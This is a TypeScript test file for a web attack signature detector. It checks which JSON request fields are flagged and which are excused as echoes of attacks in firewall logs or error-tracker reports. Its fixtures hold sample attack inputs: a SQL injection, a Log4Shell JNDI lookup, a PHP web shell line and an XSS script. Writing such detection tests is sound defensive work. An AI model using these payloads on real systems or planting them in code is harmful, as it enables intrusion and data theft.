// biome-ignore-all lint/suspicious/noTemplateCurlyInString: what is looked for is written so.
import { expect, test } from 'vitest';
import { decoyField, unknownField } from '../../../src/attacks/fields/field-kind.ts';
import { findSignatures } from '../../../src/attacks/find-signatures.ts';
import { signatures } from '../../../src/attacks/signatures/registry.gen.ts';

const ATTACK = "1' union select password from users--";
const LOOKUP = '${jndi:ldap://example.org/a}';

function found(document: object, kindOf = unknownField): readonly string[] {
  const request = { method: 'POST', path: '/', query: '', headers: {}, contentType: 'application/json' };
  const body = JSON.stringify(document);
  return findSignatures({ ...request, body }, signatures, null, kindOf).matches.map(({ location }) => location);
}

test('what a firewall or a collector hands on of a request was sent to somebody else', () => {
  expect(found({ rule: 942100, matched_data: ATTACK })).toEqual([]);
  expect(found({ httpRequest: { args: `id=${ATTACK}`, country: 'CH' } })).toEqual([]);
  expect(found({ ClientRequestQuery: ATTACK })).toEqual([]);
  expect(found({ terminatingRuleMatchDetails: [{ matchedData: [ATTACK] }] })).toEqual([]);
  expect(found({ request: { query_string: ATTACK } })).toEqual([]);
});

test('a frame of a stack holds lines of source and what variables held', () => {
  const line = "<?php system($_GET['c']); ?>";
  const frames = [{ context_line: line, pre_context: [line], post_context: [line], vars: { name: ATTACK } }];
  expect(found({ exception: { values: [{ stacktrace: { frames } }] } })).toEqual([]);
  expect(found({ context_line: line, frames: { vars: ATTACK } })).toEqual(['body.frames.vars', 'body.context_line']);
  expect(found({ frames: [{ vars: { name: LOOKUP } }] })).toEqual(['body.frames[0].vars.name']);
});

test('what a page did before a fault, and what the fault said', () => {
  const message = '<script>alert(document.cookie)</script>';
  expect(
    found({ breadcrumbs: [{ message, data: { url: ATTACK } }], exception: { values: [{ value: ATTACK }] } }),
  ).toEqual([]);
  expect(found({ breadcrumbs: message, values: [{ value: ATTACK }] })).toEqual([
    'body.values[0].value',
    'body.breadcrumbs',
  ]);
  expect(found({ breadcrumbs: [{ message: LOOKUP }] })).toEqual(['body.breadcrumbs[0].message']);
});

test('every other field beside it is judged as ever, and so is one that only searches', () => {
  expect(found({ matched_data: 'x', name: ATTACK })).toEqual(['body.name']);
  expect(found({ query_string: ATTACK })).toEqual(['body.query_string']);
  expect(found({ query: { query_string: { query: ATTACK } } })).toEqual(['body.query.query_string.query']);
});

test('a lookup runs where it is logged', () => {
  expect(found({ matched_data: LOOKUP })).toEqual(['body.matched_data']);
});

test('names inside a value are whose the value is', () => {
  const padding = 'x'.repeat(5000);
  expect(found({ name: JSON.stringify({ matched_data: ATTACK, padding }) })).toEqual(['body.name.matched_data']);
});

test('nothing is excused at a decoy', () => {
  expect(found({ matched_data: ATTACK }, decoyField)).toEqual(['body.matched_data']);
});
